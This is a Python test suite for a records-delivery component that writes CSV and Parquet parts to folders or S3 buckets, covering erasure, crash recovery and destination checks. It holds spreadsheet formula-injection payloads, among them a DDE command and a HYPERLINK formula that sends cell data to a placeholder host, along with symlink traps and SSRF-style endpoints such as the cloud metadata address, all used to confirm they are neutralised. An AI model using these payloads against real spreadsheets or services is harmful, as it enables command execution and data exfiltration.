"""A folder has each record once, whole, and nothing of whoever was removed."""

import asyncio
import csv
import io
import os
import random
import signal
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import obstore
import pytest
from hypothesis import given
from moto.server import ThreadedMotoServer
from obstore.store import S3Store
from pyarrow import parquet

from tests.deliver.wire_laws import (
    FIELDS,
    Step,
    anywhere,
    destination,
    keeps_the_model,
    outcomes,
    outgoing,
    run,
    steps,
)
from tillit.deliver.definitions import DefinitionInvalid
from tillit.deliver.outward import Allow
from tillit.deliver.secrets import Secret
from tillit.deliver.wire import DELIVERED, HALTED, LATER, REFUSED
from tillit.deliver.wires import Ways, check_to
from tillit.deliver.wires.folder import FolderWire, read_to
from tillit.errors import RefusedError, TillitError
from tillit.records import plain_cell, safe_cell

MARKED = "ana.marked@example.org"
BUCKET = {"path": "s3://bucket", "region": "r", "access_key_secret": "a", "secret_key_secret": "b"}


def opened(folder: Path, workspace: Path, *, fields: dict[str, str] = FIELDS, **to: Any) -> FolderWire:
    told = destination("folder", {"path": str(folder), **to}, fields=fields)
    return FolderWire(
        told, workspace=workspace, cache=workspace / "folders" / "people", secret=lambda *_: "x", resolve=anywhere
    )


@pytest.fixture
def places(tmp_path: Path) -> tuple[Path, Path]:
    workspace = tmp_path / "workspace"
    workspace.mkdir()
    return tmp_path / "out", workspace


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))


def rows_of(folder: Path) -> dict[str, dict[str, Any]]:
    """Read all parts with readers that are not ours; a record in two parts is an error."""
    rows: list[dict[str, Any]] = []
    for part in sorted(folder.glob("people-??????.*")):
        if part.suffix == ".tmp":
            continue
        rows += parquet.read_table(part).to_pylist() if part.suffix == ".parquet" else csv_rows(part.read_bytes())
    found = {row["id"]: row for row in rows}
    assert len(found) == len(rows)
    return found


def emails(folder: Path) -> dict[str, str | None]:
    return {key: plain_cell(row["email"]) if row["email"] else row["email"] for key, row in rows_of(folder).items()}


def holds(folder: Path, value: str) -> bool:
    return any(value.encode() in file.read_bytes() for file in folder.rglob("*") if file.is_file())


@pytest.mark.parametrize("format_", ["csv", "parquet"])
@given(history=steps)
def test_whatever_is_sent_removed_and_sent_again_the_folder_has_the_rows_of_the_model(
    format_: str, history: list[Step], tmp_path_factory: pytest.TempPathFactory
) -> None:
    base = tmp_path_factory.mktemp("law")
    out, workspace = base / "out", base / "workspace"

    async def walk() -> None:
        wire = opened(out, workspace, format=format_)
        told = [
            Step(s.is_removal, tuple((k, v or None if format_ == "parquet" else v or "") for k, v in s.items))
            for s in history
        ]
        await keeps_the_model(wire, told, lambda: emails(out))
        await wire.close()

    run(walk())


def test_people_and_events_fill_parts_and_a_new_part_begins_when_none_has_room(places: tuple[Path, Path]) -> None:
    out, workspace = places

    async def walk() -> None:
        wire = opened(out, workspace, rows=100)
        for start in range(0, 250, 50):
            await wire.send([outgoing(f"p{n}", {"email": f"{n}@example.org"}) for n in range(start, start + 50)])
        await wire.remove([outgoing("p7", {})])
        await wire.send([outgoing(f"q{n}", {"email": "q"}) for n in range(60)])
        await wire.close()

    run(walk())

    sizes = {part.name: len(csv_rows(part.read_bytes())) for part in sorted(out.iterdir())}
    # 250 fill two and a half parts; of 60 more 50 go into the emptiest, 1 into the place that p7 left, 9 begin another.
    assert sizes == {
        "people-000001.csv": 100,
        "people-000002.csv": 100,
        "people-000003.csv": 100,
        "people-000004.csv": 9,
    }
    assert len(rows_of(out)) == 250 - 1 + 60


def test_a_call_reads_and_writes_no_more_parts_than_its_records_lie_in(places: tuple[Path, Path]) -> None:
    out, workspace = places

    async def walk() -> set[str]:
        wire = opened(out, workspace, rows=100)
        await wire.send([outgoing(f"p{n}", {"email": "a"}) for n in range(450)])
        before = {part.name: part.stat().st_ino for part in out.iterdir()}
        await wire.send([outgoing("p449", {"email": "b"}), outgoing("new", {"email": "c"})])
        await wire.close()
        return {part.name for part in out.iterdir() if before.get(part.name) != part.stat().st_ino}

    assert run(walk()) == {"people-000005.csv"}


@pytest.mark.parametrize("format_", ["csv", "parquet"])
def test_a_removal_leaves_no_byte_of_the_record(format_: str, places: tuple[Path, Path]) -> None:
    out, workspace = places

    async def walk() -> None:
        wire = opened(out, workspace, format=format_)
        await wire.send([outgoing(f"p{n}", {"email": MARKED if n == 3 else f"{n}@example.org"}) for n in range(9)])
        assert format_ == "parquet" or holds(out, MARKED)
        assert MARKED in {row["email"] for row in rows_of(out).values()}
        assert outcomes(await wire.remove([outgoing("p3", {}), outgoing("never", {})])) == [DELIVERED, DELIVERED]
        await wire.close()

    run(walk())

    assert "p3" not in rows_of(out)
    assert not holds(out, MARKED)
    assert not holds(out, "p3")
    assert not holds(workspace, MARKED)


def test_a_removal_finds_its_record_when_the_index_is_lost_or_older_than_the_folder(places: tuple[Path, Path]) -> None:
    out, workspace = places

    async def send_then_lose() -> None:
        wire = opened(out, workspace)
        await wire.send([outgoing("old", {"email": "old"})])
        await wire.close()
        kept = {file: file.read_bytes() for file in (workspace / "folders" / "people").iterdir()}
        wire = opened(out, workspace)
        await wire.send([outgoing("ana", {"email": MARKED})])
        await wire.close()
        for file in (workspace / "folders" / "people").iterdir():
            file.unlink()
        for file, data in kept.items():  # as from a back-up
            file.write_bytes(data)
        wire = opened(out, workspace)
        assert outcomes(await wire.remove([outgoing("ana", {})])) == [DELIVERED]
        await wire.close()

    run(send_then_lose())

    assert list(rows_of(out)) == ["old"]


def test_a_record_that_somebody_copied_is_taken_out_of_the_copy_too(places: tuple[Path, Path]) -> None:
    out, workspace = places

    async def walk() -> None:
        wire = opened(out, workspace)
        await wire.send([outgoing("ana", {"email": MARKED}), outgoing("bo", {"email": "bo"})])
        (out / "people-000002.csv").write_bytes((out / "people-000001.csv").read_bytes())
        await wire.send([outgoing("bo", {"email": "bo2"})])
        await wire.remove([outgoing("ana", {})])
        await wire.close()

    run(walk())

    assert emails(out) == {"bo": "bo2"}
    assert not holds(out, MARKED)


def test_new_fields_come_and_old_ones_go_with_the_next_writing_of_a_part(places: tuple[Path, Path]) -> None:
    out, workspace = places

    async def walk() -> None:
        for format_ in ("csv", "parquet"):
            wire = opened(out, workspace, format=format_)
            await wire.send([outgoing(format_, {"email": MARKED, "age": 3}), outgoing(f"{format_}2", {"age": 4})])
            await wire.close()
            wire = opened(out, workspace, format=format_, fields={"age": "traits.age", "city": "traits.city"})
            await wire.send([outgoing(format_, {"age": 3, "city": "Graz"})])
            await wire.close()

    run(walk())

    rows = rows_of(out)
    assert list(rows["csv"]) == list(rows["parquet"]) == ["id", "at", "age", "city"]
    assert [rows["csv2"][name] for name in ("age", "city")] == ["4", ""]
    assert [rows["parquet2"][name] for name in ("age", "city")] == ["4", None]
    assert not holds(out, MARKED)


CASE_60 = [
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1)",
    "|calc",
    "%0A=1",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    " =1",
    '=HYPERLINK("http://x.example/?"&A1)',
    'a "quoted", cell',
    "two\r\nlines",
    "'apostrophe",
    "",
]


@pytest.mark.parametrize("text", CASE_60)
def test_no_cell_is_a_formula_and_each_is_read_back_to_the_letter(text: str, places: tuple[Path, Path]) -> None:
    out, workspace = places

    async def walk() -> None:
        wire = opened(out, workspace)
        await wire.send([outgoing("ana", {"email": text})])
        await wire.send([outgoing("bo", {"email": "x"})])  # and it is rewritten as it was
        await wire.close()

    run(walk())

    cell = rows_of(out)["ana"]["email"]
    assert cell == safe_cell(text)
    assert plain_cell(cell) == text


def test_numbers_stay_numbers_and_what_is_no_text_is_replaced(places: tuple[Path, Path]) -> None:
    out, workspace = places
    sent = {"a": -5, "b": 2.5, "c": True, "d": {"x": ["\ud800", 1]}, "e": "nul\0 half\udc00", "f": "-5"}

    async def walk() -> None:
        wire = opened(out, workspace, fields={name: f"traits.{name}" for name in sent})
        assert outcomes(await wire.send([outgoing("ana", sent)])) == [DELIVERED]
        await wire.close()

    run(walk())

    row = rows_of(out)["ana"]
    assert row == {
        "id": "ana",
        "at": "2025-11-24T16:00:00.123456Z",
        "a": "-5",
        "b": "2.5",
        "c": "true",
        "d": '{"x":["�",1]}',
        "e": "nul� half�",
        "f": "-5",
    }


def test_parquet_has_the_kinds_that_were_named_and_a_value_that_fits_none_is_refused_alone(
    places: tuple[Path, Path],
) -> None:
    out, workspace = places
    kinds = {"n": "bigint", "d": "double", "b": "boolean", "t": "timestamp", "j": "json"}
    fits = {"n": "12", "d": 1, "b": "true", "t": "2026-01-02T03:04:05Z", "j": [1], "s": 7}
    fields = {name: f"traits.{name}" for name in fits}

    async def walk() -> list[Any]:
        wire = opened(out, workspace, format="parquet", columns=kinds, fields=fields)
        answers = await wire.send(
            [outgoing("ana", fits), *(outgoing("bo", {**fits, name: MARKED}) for name in ("n", "d", "b", "t"))]
        )
        await wire.send([outgoing("cem", {})])
        await wire.close()
        return list(answers)

    answers = run(walk())

    assert outcomes(answers) == [DELIVERED] + [REFUSED] * 4
    assert {(answer.code, answer.has_left) for answer in answers[1:]} == {("folder.value", False)}
    assert not any(MARKED in answer.words for answer in answers)
    table = parquet.read_table(out / "people-000001.parquet")
    assert [str(one.type) for one in table.schema] == [
        "string",
        "timestamp[us, tz=UTC]",
        "int64",
        "double",
        "bool",
        "timestamp[us, tz=UTC]",
        "string",
        "string",
    ]
    ana, cem = table.to_pylist()
    assert (ana["n"], ana["d"], ana["b"], ana["j"], ana["s"]) == (12, 1.0, True, "[1]", "7")
    assert ana["t"].isoformat() == "2026-01-02T03:04:05+00:00"
    assert set(cem.values()) - {None} == {"cem", cem["at"]}


# -- the folder itself


def test_what_is_made_is_the_owners_alone(places: tuple[Path, Path]) -> None:
    out, workspace = places

    async def walk() -> None:
        wire = opened(out, workspace)
        await wire.send([outgoing("ana", {"email": "x"})])
        await wire.close()

    before = os.umask(0)
    try:
        run(walk())
    finally:
        os.umask(before)

    assert {out.stat().st_mode & 0o777, *(one.stat().st_mode & 0o777 for one in out.iterdir())} == {0o700, 0o600}


@pytest.mark.parametrize("name", ["people-000001.csv", "people-000001.csv.tmp"])
def test_a_link_in_the_folder_is_never_followed(name: str, places: tuple[Path, Path], tmp_path: Path) -> None:
    out, workspace = places
    out.mkdir()
    victim = tmp_path / "victim"
    victim.write_bytes(b"id,at,email\r\n")
    (out / name).symlink_to(victim)

    async def walk() -> list[Any]:
        wire = opened(out, workspace)
        answers = await wire.send([outgoing("ana", {"email": "x"})])
        await wire.close()
        return list(answers)

    answers = run(walk())

    assert victim.read_bytes() == b"id,at,email\r\n"
    if name.endswith(".csv"):
        assert [(a.outcome, a.code, a.has_left) for a in answers] == [(HALTED, "folder.no-file", False)]
    else:  # a left-over, by its name: it is deleted, and what it led to stays
        assert outcomes(answers) == [DELIVERED]


def trouble_link(out: Path, workspace: Path) -> Path:
    out.mkdir()
    (out.parent / "link").symlink_to(out)
    return out.parent / "link"


def trouble_inside(out: Path, workspace: Path) -> Path:
    return workspace / "out"


def trouble_inside_by_link(out: Path, workspace: Path) -> Path:
    (out.parent / "way").symlink_to(workspace)
    return out.parent / "way" / "out"


def trouble_no_parent(out: Path, workspace: Path) -> Path:
    return out / "not" / "mounted"


def trouble_file(out: Path, workspace: Path) -> Path:
    out.write_text("")
    return out


def trouble_garbage(out: Path, workspace: Path) -> Path:
    out.mkdir()
    (out / "people-000001.csv").write_bytes(b"\xff\xfe")
    return out


@pytest.mark.parametrize(
    ("make", "code"),
    [
        (trouble_link, "folder.enotdir"),
        (trouble_inside, "folder.inside-workspace"),
        (trouble_inside_by_link, "folder.inside-workspace"),
        (trouble_no_parent, "folder.enoent"),
        (trouble_file, "folder.enotdir"),
        (trouble_garbage, "folder.not-readable"),
    ],
)
def test_a_folder_that_may_not_be_written_halts_and_nothing_is_made(
    make: Callable[[Path, Path], Path], code: str, places: tuple[Path, Path]
) -> None:
    folder = make(*places)

    async def walk() -> list[Any]:
        wire = opened(folder, places[1])
        answers = await wire.send([outgoing("ana", {"email": MARKED})])
        checked = await wire.check()
        await wire.close()
        return [*answers, checked]

    answer, checked = run(walk())

    assert (answer.outcome, answer.code, answer.has_left) == (HALTED, code, False)
    assert checked.is_well == (code == "folder.not-readable")
    assert not holds(places[1].parent, MARKED)


def test_a_full_disk_is_later_and_the_part_stays_as_it_was(places: tuple[Path, Path]) -> None:
    out, workspace = places
    child = """
import resource, signal, sys
from pathlib import Path
from tests.deliver.test_folder import opened, outgoing, run
async def walk():
    wire = opened(Path(sys.argv[1]), Path(sys.argv[2]))
    await wire.send([outgoing("ana", {"email": "x"})])
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (200_000, 200_000))
    print(await wire.send([outgoing("bo", {"email": "y" * 300_000})]))
run(walk())
"""
    told = subprocess.run(
        [sys.executable, "-c", child, out, workspace], capture_output=True, text=True, check=True, env=child_env()
    )

    assert "'later', code='folder.efbig'" in told.stdout.replace("outcome=", "")
    assert [part.name for part in out.iterdir()] == ["people-000001.csv"]
    assert emails(out) == {"ana": "x"}


def child_env() -> dict[str, str]:
    return {**os.environ, "PYTHONPATH": os.pathsep.join(one for one in sys.path if one)}


@pytest.mark.parametrize("format_", ["csv", "parquet"])
def test_a_process_that_the_system_kills_within_a_write_leaves_the_old_part_and_the_next_call_sweeps(
    format_: str, places: tuple[Path, Path]
) -> None:
    out, workspace = places
    # Without leave for larger files the kernel kills whoever goes on writing, half of the bytes written.
    child = """
import random, resource, signal, sys
from pathlib import Path
from tests.deliver.test_folder import opened, outgoing, run
async def walk():
    wire = opened(Path(sys.argv[1]), Path(sys.argv[2]), format=sys.argv[3])
    await wire.send([outgoing(f"p{n}", {"email": "old"}) for n in range(500)])
    signal.signal(signal.SIGXFSZ, signal.SIG_DFL)
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
    resource.setrlimit(resource.RLIMIT_FSIZE, (300_000, 300_000))
    await wire.send([outgoing(f"p{n}", {"email": random.randbytes(1_000).hex()}) for n in range(500)])
run(walk())
"""
    killed = subprocess.run([sys.executable, "-c", child, out, workspace, format_], check=False, env=child_env())

    assert killed.returncode == -signal.SIGXFSZ
    assert emails(out) == {f"p{n}": "old" for n in range(500)}

    async def mend() -> None:
        wire = opened(out, workspace, format=format_)
        # A call that writes nothing sweeps all the same.
        assert outcomes(await wire.remove([outgoing("never", {})])) == [DELIVERED]
        await wire.close()

    run(mend())

    assert emails(out) == {f"p{n}": "old" for n in range(500)}
    left = [file.name for folder in (out, workspace) for file in folder.rglob("*") if file.is_file()]
    assert {name for name in left if not name.startswith("index.db")} == {f"people-000001.{format_}"}


@pytest.mark.crash
@pytest.mark.parametrize("format_", ["csv", "parquet"])
def test_a_kill_in_the_middle_leaves_whole_parts_and_the_next_send_mends(
    format_: str, places: tuple[Path, Path]
) -> None:
    out, workspace = places
    child = """
import sys
from pathlib import Path
from tests.deliver.test_folder import opened, outgoing, run
async def walk():
    wire = opened(Path(sys.argv[1]), Path(sys.argv[2]), format=sys.argv[3], rows=500)
    for turn in range(10_000):
        for start in range(0, 2_000, 500):
            await wire.send([outgoing(f"p{n}", {"email": f"turn {turn}"}) for n in range(start, start + 500)])
            print(turn, flush=True)
run(walk())
"""
    for round_ in range(3):
        process = subprocess.Popen(
            [sys.executable, "-c", child, out, workspace, format_],
            stdout=subprocess.PIPE,
            text=True,
            env=child_env(),
        )
        assert process.stdout is not None
        for _ in range(4 + round_):
            process.stdout.readline()
        time.sleep(random.random() / 30)  # about as long as one call takes
        process.send_signal(signal.SIGKILL)
        process.wait()
        process.stdout.close()

        # Each part is of one turn or of the next, never half of one.
        for part in out.glob(f"people-*.{format_}"):
            found = parquet.read_table(part).to_pylist() if format_ == "parquet" else csv_rows(part.read_bytes())
            assert len(found) == 500
            assert len({row["email"] for row in found}) == 1

    async def mend() -> None:
        wire = opened(out, workspace, format=format_, rows=500)
        for start in range(0, 2_000, 500):
            await wire.send([outgoing(f"p{n}", {"email": "mended"}) for n in range(start, start + 500)])
        await wire.close()

    run(mend())
    assert emails(out) == {f"p{n}": "mended" for n in range(2_000)}
    assert {part.suffix for part in out.iterdir()} == {f".{format_}"}
    cached = {file.name for file in (workspace / "folders" / "people").iterdir()}
    assert cached <= {"index.db", "index.db-wal", "index.db-shm"}


def test_two_processes_never_write_at_once(places: tuple[Path, Path]) -> None:
    out, workspace = places
    out.mkdir()

    async def walk() -> list[Any]:
        wire = opened(out, workspace)
        held = os.open(out, os.O_RDONLY)
        import fcntl

        fcntl.flock(held, fcntl.LOCK_EX)
        first = await wire.send([outgoing("ana", {"email": "x"})])
        os.close(held)
        second = await wire.send([outgoing("ana", {"email": "x"})])
        await wire.close()
        return [*first, *second]

    first, second = run(walk())

    assert (first.outcome, first.code, first.has_left) == (LATER, "folder.busy", False)
    assert second.outcome == DELIVERED


@pytest.mark.parametrize(
    "to",
    [
        {"path": "relative/path"},
        {"path": "/a/../b"},
        {"path": "/"},
        {"path": "/a\nb"},
        {"path": "/a", "format": "xlsx"},
        {"path": "/a", "rows": 5},
        {"path": "/a", "parts": 5},
        {"path": "/a", "region": "eu-central-1"},
        {"path": "/a", "columns": {"email": "varchar"}},
        {"path": "s3://bucket/a"},
        {"path": "s3://bucket/../a", "region": "r", "access_key_secret": "a", "secret_key_secret": "b"},
    ],
)
def test_a_place_that_cannot_be_is_refused_when_it_is_declared(to: dict[str, Any]) -> None:
    with pytest.raises(DefinitionInvalid):
        read_to("Destination 'x'", to)


@pytest.mark.parametrize(
    ("kind", "to"),
    [
        ("folder", {"path": "{workspace}/out"}),
        ("folder", {**BUCKET, "endpoint": "http://minio.example:9000"}),
        ("folder", {**BUCKET, "endpoint": "https://169.254.169.254"}),
        ("table", {"url": "{workspace}/state.db", "table": "people"}),
        ("table", {"url": "postgresql://u@10.0.0.1/db", "table": "people"}),
        ("table", {"url": "{workspace}/../out.db", "table": "people", "columns": {"none": "bigint"}}),
    ],
)
def test_a_place_that_may_not_be_sent_to_is_refused_when_it_is_declared(
    kind: str, to: dict[str, Any], tmp_path: Path
) -> None:
    ways = Ways(Allow(), lambda *_: Secret("x"), tmp_path, lambda: 0)
    told = {
        name: one.replace("{workspace}", str(tmp_path)) if isinstance(one, str) else one for name, one in to.items()
    }

    with pytest.raises(TillitError):
        check_to(destination(kind, told), ways)


@pytest.mark.parametrize("fields", [{"id": "traits.a"}, {"AT": "traits.a"}, {"a": "traits.a", "A": "traits.b"}])
def test_a_field_with_the_name_of_another_column_is_refused(fields: dict[str, str], places: tuple[Path, Path]) -> None:
    with pytest.raises(DefinitionInvalid):
        opened(*places, fields=fields)


# -- a bucket


@pytest.fixture(scope="module")
def s3() -> Iterator[str]:
    """Give the address of a real server that speaks S3."""
    server = ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    server.start()
    host, port = server.get_host_and_port()
    address = f"http://{host}:{port}"
    urllib.request.urlopen(urllib.request.Request(f"{address}/shop", method="PUT")).close()
    yield address
    server.stop()


def bucket_to(address: str, prefix: str) -> dict[str, Any]:
    return {
        "path": f"s3://shop/{prefix}",
        "region": "us-east-1",
        "endpoint": address,
        "access_key_secret": "key-id",
        "secret_key_secret": "key",
    }


def in_bucket(address: str, workspace: Path, prefix: str, **to: Any) -> FolderWire:
    told = destination("folder", {**bucket_to(address, prefix), **to})
    return FolderWire(
        told, workspace=workspace, cache=workspace / "cache", secret=lambda name, _: name, resolve=anywhere
    )


def store_of(address: str, prefix: str) -> S3Store:
    return S3Store(
        "shop",
        prefix=prefix,
        region="us-east-1",
        endpoint=address,
        access_key_id="a",
        secret_access_key="b",
        client_options={"allow_http": True},
    )


def objects_of(address: str, prefix: str) -> dict[str, bytes]:
    store = store_of(address, prefix)
    return {one["path"]: bytes(obstore.get(store, one["path"]).bytes()) for one in obstore.list(store).collect()}


@pytest.mark.parametrize("format_", ["csv", "parquet"])
def test_a_bucket_has_each_record_once_and_no_byte_of_a_removed_one(format_: str, s3: str, tmp_path: Path) -> None:
    async def walk() -> None:
        wire = in_bucket(s3, tmp_path, f"law/{format_}", format=format_)
        await wire.send([outgoing(f"p{n}", {"email": MARKED if n == 3 else f"{n}@example.org"}) for n in range(9)])
        await wire.send([outgoing("p1", {"email": "one"})])
        assert outcomes(await wire.remove([outgoing("p3", {})])) == [DELIVERED]
        assert (await wire.check()).is_well
        await wire.close()

    run(walk())

    ((name, data),) = objects_of(s3, f"law/{format_}").items()
    rows = parquet.read_table(io.BytesIO(data)).to_pylist() if format_ == "parquet" else csv_rows(data)
    assert name == f"people-000001.{format_}"
    assert {row["id"]: row["email"] for row in rows} == {
        f"p{n}": "one" if n == 1 else f"{n}@example.org" for n in range(9) if n != 3
    }
    assert MARKED.encode() not in data


def test_a_part_that_somebody_else_wrote_meanwhile_is_not_written_over(
    s3: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def walk() -> list[Any]:
        wire, other = in_bucket(s3, tmp_path / "a", "race"), in_bucket(s3, tmp_path / "b", "race")
        await wire.send([outgoing("ana", {"email": "x"})])
        plan = wire._plan

        def late(*args: Any) -> Any:
            # Between our look at the bucket and our write.
            asyncio.run(other.send([outgoing("bo", {"email": "theirs"})]))
            return plan(*args)

        monkeypatch.setattr(wire, "_plan", late)
        first = await wire.send([outgoing("ana", {"email": "y"})])
        monkeypatch.undo()
        second = await wire.send([outgoing("ana", {"email": "y"})])
        await wire.close()
        return [*first, *second]

    first, second = run(walk())

    assert (first.outcome, first.code) == (LATER, "folder.changed")
    assert second.outcome == DELIVERED
    assert {row["id"]: row["email"] for row in csv_rows(objects_of(s3, "race")["people-000001.csv"])} == {
        "ana": "y",
        "bo": "theirs",
    }


def test_a_bucket_that_is_not_there_halts_and_one_that_does_not_answer_is_later(s3: str, tmp_path: Path) -> None:
    async def walk(wire: FolderWire) -> list[Any]:
        answers = await wire.send([outgoing("ana", {"email": "x"})])
        await wire.close()
        return list(answers)

    (missing,) = run(walk(in_bucket(s3, tmp_path / "a", "x", path="s3://no-such-bucket/x")))
    (silent,) = run(walk(in_bucket("http://127.0.0.1:9", tmp_path / "b", "x")))

    assert (missing.outcome, missing.code, missing.has_left) == (HALTED, "folder.not-found", False)
    assert (silent.outcome, silent.code, silent.has_left) == (LATER, "folder.unreachable", False)


def test_an_endpoint_that_may_not_be_connected_to_is_never_called(s3: str, tmp_path: Path) -> None:
    async def refuse(host: str, port: int) -> list[str]:
        raise RefusedError("Not there.", code="deliver.outward-refused")

    told = destination("folder", bucket_to(s3, "guarded"))
    wire = FolderWire(told, workspace=tmp_path, cache=tmp_path / "cache", secret=lambda name, _: name, resolve=refuse)

    (answer,) = run(wire.send([outgoing("ana", {"email": "x"})]))

    assert (answer.outcome, answer.code, answer.has_left) == (HALTED, "deliver.outward-refused", False)
    assert objects_of(s3, "guarded") == {}
